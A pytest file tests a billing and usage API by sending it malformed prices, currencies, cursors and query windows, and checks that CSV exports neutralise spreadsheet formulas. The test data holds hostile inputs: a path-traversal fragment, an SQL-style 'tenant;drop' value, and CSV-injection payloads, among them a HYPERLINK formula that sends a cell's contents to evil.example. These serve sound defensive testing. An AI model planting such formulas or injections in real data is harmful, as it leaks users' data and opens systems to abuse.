"""Money, attacked as a hostile user would (issue 37 gap round), on SQLite and PostgreSQL through
the real app: hostile decimal strings and currencies for the price book, tampered page cursors and
windows for the OpenAI-shaped usage/costs endpoints and the admin lists, and CSV injection through
text a tenant writes itself (OpenAI's ``user`` field, its own ``x-request-id``): every answer a
4xx with an OpenAI-style error body, never a 500, and no exported cell a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import time

import pytest
from platform_helpers import admin_headers, tenant

H = admin_headers()
BAD_DECIMALS = [
    "NaN",
    "nan",
    "Infinity",
    "-Infinity",
    "-0",
    "-1",
    "1e3",
    "1E-3",
    "0x10",
    "1_000",
    "1,5",
    "١٢",
    "²",
    "1.",
    ".5",
    ".",
    "",
    " ",
    "0.0000001",
    "10000000",
    "99999999999999999999999999",
    "1\x00",
    "1\n2",
    "+1",
    "0b1",
    "１",
    "1" * 33,
]
BAD_JSON_DECIMALS = [None, 1.5, 1, True, [], {}, float("1e308")]
BAD_CURRENCIES = ["US$", "", "EURO", "€€€", "ＵＳＤ", "U\nS", "U S", "123", "US", None, 5]


def _price(client, **over):
    body = {"model": "*", "input_per_mtok": "1", "output_per_mtok": "2"} | over
    return client.post("/admin/v1/prices", json=body, headers=H)


def _err(resp, *codes) -> dict:
    assert resp.status_code in codes, (resp.status_code, resp.text[:300])
    err = resp.json()["error"]
    assert isinstance(err["message"], str) and err["message"], err
    return err


@pytest.mark.parametrize("field", ["input_per_mtok", "cached_input_per_mtok", "output_per_mtok"])
def test_hostile_decimal_strings_are_refused(client, field):
    for bad in BAD_DECIMALS + BAD_JSON_DECIMALS:
        if bad is None and field == "cached_input_per_mtok":
            continue  # null is its default: the input rate (no cache discount)
        err = _err(_price(client, **{field: bad}), 400, 422)
        assert err.get("param") in (field, f"body.{field}", None) or field in err["message"], (bad, err)
    assert client.get("/admin/v1/prices", headers=H).json()["data"] == []  # nothing was stored


def test_hostile_currencies_are_refused_and_one_currency_holds(client):
    for bad in BAD_CURRENCIES:
        _err(_price(client, currency=bad), 400, 422)
    assert _price(client, currency="eur").status_code == 201  # case-folded
    err = _err(_price(client, currency="USD"), 400, 409, 422)  # one currency per book
    assert "EUR" in err["message"]
    assert [p["currency"] for p in client.get("/admin/v1/prices", headers=H).json()["data"]] == ["EUR"]


def test_hostile_effective_from_is_refused(client):
    for bad in ["yesterday", "2020-01-01T00:00:00Z", "9999-12-31T23:59:59-23:59", "0001-01-01", 10**20, "1e9", ""]:
        _err(_price(client, effective_from=bad), 400, 422)


def test_tampered_cursors_and_windows_never_500(client):
    tid = tenant(client, "cursor")
    key = client.post(f"/admin/v1/tenants/{tid}/keys", json={}, headers=H).json()["key"]
    auth = {"Authorization": f"Bearer {key}"}
    s = int(time.time()) - 10 * 86400
    pages = [
        "page_-1",
        "page_1e3",
        "page_99999999999999",
        "page_",
        "page_ 1",
        "PAGE_1",
        "page_1.5",
        f"page_{s}x",
        f"page_{s + 1}",
        f"page_{s - 86400}",
        "page_%00",
        "page_\u0661",
        "null",
        "page_" + "9" * 5000,
        f"page_{s}_x",
    ]
    for path in ("/v1/organization/usage/completions", "/v1/organization/costs"):
        for page in pages:
            r = client.get(path, params={"start_time": s, "page": page}, headers=auth)
            assert r.status_code == 400 and r.json()["error"]["param"] == "page", (page, r.text[:200])
        for params in (
            {"start_time": s, "limit": -1},
            {"start_time": s, "limit": 10**30},
            {"start_time": "1e9"},
            {"start_time": s, "end_time": 2**63},
            {"start_time": 2**64},
            {"start_time": s, "group_by": "project_id,../../etc"},
            {"start_time": s, "bucket_width": "1d\x00"},
        ):
            r = client.get(path, params=params, headers=auth)
            assert 400 <= r.status_code < 500, (params, r.status_code, r.text[:200])
            assert r.json()["error"]["message"]
        # a real cursor of this query still works, and pages never overlap
        first = client.get(path, params={"start_time": s, "limit": 3}, headers=auth).json()
        nxt = client.get(path, params={"start_time": s, "limit": 3, "page": first["next_page"]}, headers=auth).json()
        assert first["data"][-1]["end_time"] == nxt["data"][0]["start_time"]
    for path, params in (
        ("/admin/v1/tenants", {"limit": -1}),
        ("/admin/v1/tenants", {"offset": -5}),
        ("/admin/v1/tenants", {"offset": 10**30}),
        ("/admin/v1/audit", {"limit": 10**9}),
        ("/admin/v1/spend", {"group_by": "tenant;drop"}),
        ("/admin/v1/spend", {"group_by": "tenant", "start": "2026-01-02T00:00:00Z", "end": "2026-01-01T00:00:00Z"}),
        ("/admin/v1/spend/export", {"start": "not a date"}),
        ("/admin/v1/usage/export", {"format": "xlsx"}),
    ):
        r = client.get(path, params=params, headers=H)
        assert 400 <= r.status_code < 500, (path, params, r.status_code, r.text[:200])


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1"]


def test_csv_exports_defuse_formulas_a_tenant_wrote(client, platform):
    tid = tenant(client, "csvinj")
    key = client.post(f"/admin/v1/tenants/{tid}/keys", json={}, headers=H).json()["key"]
    assert _price(client).status_code == 201
    auth = {"Authorization": f"Bearer {key}"}
    model = platform.ctx.engine.model_name
    for i, user in enumerate(FORMULAS):
        r = client.post(
            "/v1/completions",
            json={"model": model, "prompt": "hi", "max_tokens": 2, "user": user},
            headers={**auth, "x-request-id": f"-{i}-1"},
        )
        assert r.status_code == 200, r.text
    platform.ctx.ledger.flush()
    usage = client.get("/admin/v1/usage/export", params={"tenant_id": tid}, headers=H)
    spend = client.get("/admin/v1/spend/export", params={"tenant_id": tid}, headers=H)
    for export in (usage, spend):
        assert export.status_code == 200
        rows = list(csv.DictReader(io.StringIO(export.text)))
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for name, value in row.items():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    users = sorted(r["user"] for r in csv.DictReader(io.StringIO(usage.text)))
    assert users == sorted("'" + u for u in FORMULAS)  # kept, shown as text
    assert sorted(r["http_request_id"] for r in csv.DictReader(io.StringIO(usage.text))) == sorted(
        f"'-{i}-1" for i in range(len(FORMULAS))
    )
    jsonl = client.get("/admin/v1/usage/export", params={"tenant_id": tid, "format": "jsonl"}, headers=H)
    assert sorted(__import__("json").loads(line)["user"] for line in jsonl.text.splitlines()) == sorted(FORMULAS)
